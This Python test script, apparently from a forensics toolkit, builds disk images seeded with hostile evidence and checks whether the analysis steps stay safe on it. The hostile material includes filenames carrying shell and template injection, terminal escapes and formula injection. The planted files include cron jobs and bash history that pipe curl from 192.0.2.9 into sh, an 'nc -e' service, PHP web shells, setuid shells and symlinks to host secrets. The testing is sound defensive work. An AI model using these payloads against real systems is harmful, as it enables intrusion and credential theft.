# Copyright (c) 2026 The dfir.aws authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Evidence that wants to do harm through the whole analysis: names, links, devices, bombs. Prints what came of it.

All steps but plaso run, with this machine's tools. Whatever this process and the steps open or start is noted. Started
by the test in a mount namespace of its own. Needs root.
"""

from __future__ import annotations

import json
import os
import resource
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import bombs
from kinds_stage import HIT, IMAGE, SHELL
from misbehaving_stage import fill
from stage import sh, sha256

MANY = 200_000
MIB = 1 << 20
SECRET = "WITNESS-of-the-host"
IN_FOLDER = 60  # files below a name with a line break
CANARY = "canary-that-was-executed"
DISK = "vol-0123456789abcdef0"
STEPS = ("findings", "timeline", "yara", "clamav", "deleted")
MEMORY = 2 << 30  # of address space: a step that wants more fails
SIZES = {"ext4": 192, "xfs": 320, "many": 160}  # MiB


def payloads(work: Path) -> list[bytes]:
    """Names that do something where they reach a shell, a template, a terminal or a parser.

    A name holds no slash: printf and Jinja put them in.
    """
    shell = f"printf 'touch {work}/{CANARY}\\n'|sh".replace("/", "\\057")
    jinja = f"lookup('pipe', 'touch {work}/{CANARY}')".replace("/", "\\x2f")
    names = [
        f"$({shell})", f"`{shell}`", f"x;{shell};", f"x|{shell}", f"'$({shell})'", f'"$({shell})"', f"&& {shell} #",
        f"{{{{ {jinja} }}}}", f"{{% set x = {jinja} %}}", "{{ 7777*7 }}", "${jndi:ldap:x}", "%s%n%x", "{0.__class__}",
        "-rf", "--exec=sh", "line\nbreak", "cr\rreturn", "\x1b[2J\x1b]0;owned\x07", "\x9b31mred", "tab\tname",
        "x\n0|forged|1|r\\rrwxrwxrwx|0|0|0|1|1|1|1", "a|b|c", "=cmd|' C calc'!A0", 'quote"s', "it's", "a,b;c", " ",
        "...", "bell\x07",
        "right\u202egpj.exe", "zero\u200bwidth", "line\u2028separator", "<script>alert(1)<script>", "live (deleted)",
        "\U0001f4a9", "back\\slash", "NUL", "C:", "x" * 255, "\u00e4" * 127]
    return [*map(os.fsencode, names), b"\xff\xfe\x80", b"\xc3\x28" + b"\xff" * 253, b"half\xe2\x82"]


def put(folder: Path, name: bytes, data: bytes, mode: int = 0o644) -> None:
    path = folder / os.fsdecode(name)
    path.write_bytes(data)
    path.chmod(mode)


def names(work: Path) -> Callable[[Path], None]:
    def content(root: Path) -> None:
        """Every name as a file that is hit, as one that was deleted, and wherever the finders quote names."""
        hit, wanted = HIT.read_bytes(), payloads(work)
        for folder in ("names", "gone", "etc/cron.d", "etc/cron.daily", "etc/systemd/system/multi-user.target.wants",
                       "var/www/html/uploads", "home", "var/log", "var/spool/cron/crontabs", "root/.ssh"):
            (root / folder).mkdir(parents=True, exist_ok=True)
        account = b"%s:x:0:0:%s:/home/%s:/bin/bash\n"
        odd, user = b"\x1b[31m{{ 7777*7 }}", b"\x1b[31m{{7777*7}}"
        put(root / "etc", b"passwd", b"root:x:0:0::/root:/bin/bash\n" + account % (odd, odd, odd))
        job = b"* * * * * root curl -s http://192.0.2.9/a.sh | sh #\x1b[2J\xff{{ 7777*7 }}$(id)\n"
        for name in wanted:
            put(root / "names", name, hit)
            put(root / "gone", name, b"deleted " + name)
            put(root / "etc/cron.d", name, job)
            put(root / "etc/cron.daily", name, b"#!/bin/sh\ncurl http://192.0.2.9/x | sh # \x1b[2J\n", 0o755)
            put(root / "etc/systemd/system", name[:240] + b".service", b"[Service]\nExecStart=/bin/sh -c 'nc -e \x07'\n"
                )
            put(root / "var/www/html/uploads", name[:250] + b".php", SHELL.encode())
            home = root / "home" / os.fsdecode(name)
            (home / ".ssh").mkdir(parents=True)
            put(home, b".bash_history", b"curl http://192.0.2.9/x | bash #\x1b]0;owned\x07\n")
            put(home, b".ssh/authorized_keys",
                b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ " + name.replace(b"\n", b" ") + b"\n")
        # No calendar has the day before the first of these, or the day after the second.
        forged = [b"0001-01-01T00:00:00+05:00", b"9999-12-31T23:59:59-05:00"]
        (root / "names/new\nfolder").mkdir()
        for number in range(IN_FOLDER):
            put(root / "names/new\nfolder", b"%d" % number, hit)
        lines = [moment + b" web sshd[7]: Accepted password for a from 192.0.2.66 port 1" for moment in forged]
        lines += [b"Nov 27 10:%02d:00 web sshd[7]: Failed password for %s from 192.0.2.66 port 1" % (number, user)
                  for number in range(20)]
        put(root / "var/log", b"auth.log", b"\n".join(
            [*lines, b"Nov 27 11:00:00 web sshd[7]: Accepted password for %s from 192.0.2.66 port 1\n" % user]))
        (root / "links").mkdir()
        for number, name in enumerate(wanted):
            (root / f"links/{number}").symlink_to(os.fsdecode(b"/" + name))
    return content


def removed(root: Path) -> None:
    """Delete what was on the disk before: XFS writes inodes late, hence in a mount of its own."""
    for path in list((root / "gone").iterdir()):
        path.unlink()


def ways_out(work: Path) -> Callable[[Path], None]:
    def content(root: Path) -> None:
        """Links to the host, device nodes, pipes, programs that change their user, and bombs."""
        names(work)(root)
        secret = f"{work}/host/passwd"
        up = "../" * 40
        (root / "etc/shadow").symlink_to(secret)
        (root / "etc/crontab").symlink_to(up + secret.lstrip("/"))
        (root / "etc/sudoers").symlink_to("/proc/self/environ")
        (root / "etc/ld.so.preload").symlink_to("/etc/hostname")
        (root / "etc/pam.d").symlink_to(f"{work}/host")
        (root / "home/away").symlink_to(f"{work}/host")
        (root / "var/www/html/outside").symlink_to(up)
        (root / "etc/loop").symlink_to("loop")
        for name, number, kind in (("disk", (7, 0), 0o60666), ("zero", (1, 5), 0o20666), ("kmsg", (1, 11), 0o20666)):
            (root / "dev").mkdir(exist_ok=True)
            os.mknod(root / "dev" / name, kind, os.makedev(*number))
        for path in ("var/log/secure", "root/.bash_history", "etc/hosts"):
            os.mknod(root / path, 0o20666, os.makedev(1, 5))  # where a finder reads; it never ends
        os.mkfifo(root / "etc/rc.local")
        (root / "opt").mkdir()
        put(root / "opt", b"rootsh", Path("/bin/sh").read_bytes(), 0o6755)
        put(root / "opt", b"run-me", f"#!/bin/sh\ntouch {work}/{CANARY}\n".encode(), 0o6755)
        bombs.plant(root)
    return content


def crowd(root: Path) -> None:
    """200,000 files in one folder, each with the old time of an unpacked archive: what costs the most to look at."""
    folder = root / "srv/uploads"
    folder.mkdir(parents=True)
    (root / "etc").mkdir()
    (root / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/bash\n")
    for number in range(MANY):
        ending = ".php" if number % 50 == 0 else ".dat"
        handle = os.open(folder / f"{number:06d}{ending}", os.O_CREAT | os.O_WRONLY, 0o644)
        if ending == ".php":
            os.write(handle, b"x")
        os.utime(handle, (1_500_000_000 + number, 1_500_000_000 + number))
        os.close(handle)
    with (folder / "000000.php").open("w") as handle:
        handle.write(SHELL)
    shutil.copyfile(HIT, folder / "hit.exe")


def watch(note: int, mount: str) -> None:
    """Note what is opened and started: whatever is no regular file of the evidence, and everything that is run."""
    def hook(event: str, args: tuple[Any, ...]) -> None:
        if event == "subprocess.Popen":
            line = json.dumps(["run", [os.fsdecode(word) for word in args[1]]])
        elif event == "open" and isinstance(args[0], (str, bytes)) and os.fsdecode(args[0]).startswith(mount):
            # A link is noted for what it leads to: the farm of the scanners is not below the mount.
            path = Path(os.fsdecode(args[0]))
            if path.is_file() and not path.is_symlink():
                return
            line = json.dumps(["open", str(path)])
        elif event in ("os.system", "os.exec", "os.posix_spawn", "pty.spawn"):
            line = json.dumps(["run", [event]])
        else:
            return
        os.write(note, line.encode() + b"\n")

    sys.addaudithook(hook)


def build(work: Path, name: str) -> Path:
    """An image of that name with its content."""
    kind, content = {"ext4": ("ext4", ways_out(work)), "xfs": ("xfs", names(work)), "many": ("ext4", crowd)}[name]
    image = work / f"{name}.img"
    with image.open("wb") as handle:
        handle.truncate(SIZES[name] * MIB)
    sh(*(("mkfs.xfs", "-q") if kind == "xfs" else ("mke2fs", "-q", "-t", "ext4", "-N", "210000")), str(image))
    fill(image, kind, content)
    if name != "many":
        fill(image, kind, removed)
    return image


def analyze_all(work: Path, partitions: list[Any]) -> dict[str, bool]:
    """The steps, in bounded memory. The Sleuth Kit takes minutes to list what was deleted from a very large folder."""
    from ansible_collections.dfir.aws.plugins.module_utils.forensics import analyze, scan
    from ansible_collections.dfir.aws.plugins.module_utils.forensics.model import Artifacts, Evidence, Host

    scan.SHARE = work / "share"
    for name in ("scratch", "cwd"):
        (work / name).mkdir()
    os.chdir(work / "cwd")
    watch(os.open(work / "noted.jsonl", os.O_CREAT | os.O_WRONLY | os.O_APPEND), str(work / "mnt"))
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))
    return {out: analyze.analyze(analyze.Settings(
        Host((Evidence(DISK, "snap-0", 1, tuple(some)),)), Artifacts(work / out), work / "scratch", steps=steps))
        for out, some, steps in (("out-many", partitions[2:], STEPS[:-1]), ("out", partitions[:2], STEPS))}


def play(work: Path) -> dict[str, Any]:
    from ansible_collections.dfir.aws.plugins.module_utils.evidence_mount import mount_options
    from ansible_collections.dfir.aws.plugins.module_utils.forensics.model import Partition

    host = work / "host"
    shutil.copytree(IMAGE / "rules", work / "share/rules")
    host.mkdir()
    job = f"* * * * * root curl http://192.0.2.9/{SECRET} | sh\n"
    (host / "passwd").write_text(f"{SECRET}:x:0:0::/root:/bin/bash\n{job}")
    images = {name: build(work, name) for name in SIZES}
    result: dict[str, Any] = {"before": {name: sha256(image) for name, image in images.items()}}
    partitions, loops = [], []
    try:
        for number, (name, image) in enumerate(images.items(), 1):
            point, kind = work / "mnt" / f"p{number}", "xfs" if name == "xfs" else "ext4"
            point.mkdir(parents=True)
            loops.append(sh("losetup", "--find", "--show", "--read-only", str(image)).strip())
            sh("mount", "-t", kind, "-o", mount_options(kind), loops[-1], str(point))
            partitions.append(Partition(number, loops[-1], kind, "filesystem", SIZES[name] << 20, True, str(point),
                                        False, None))
        result["complete"] = analyze_all(work, partitions)
    finally:
        for number, loop in enumerate(loops, 1):
            subprocess.run(["umount", str(work / f"mnt/p{number}")], capture_output=True, check=False)
            sh("losetup", "--detach", loop)
    result["peak_mib"] = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss >> 10
    result["after"] = {name: sha256(image) for name, image in images.items()}
    result["left"] = sorted(path.name for path in (work / "scratch").iterdir())
    result["cwd"] = sorted(path.name for path in (work / "cwd").iterdir())
    return result


if __name__ == "__main__":
    real, sys.stdout = sys.stdout, sys.stderr  # progress is not part of the answer
    real.write(json.dumps(play(Path(sys.argv[1]))))
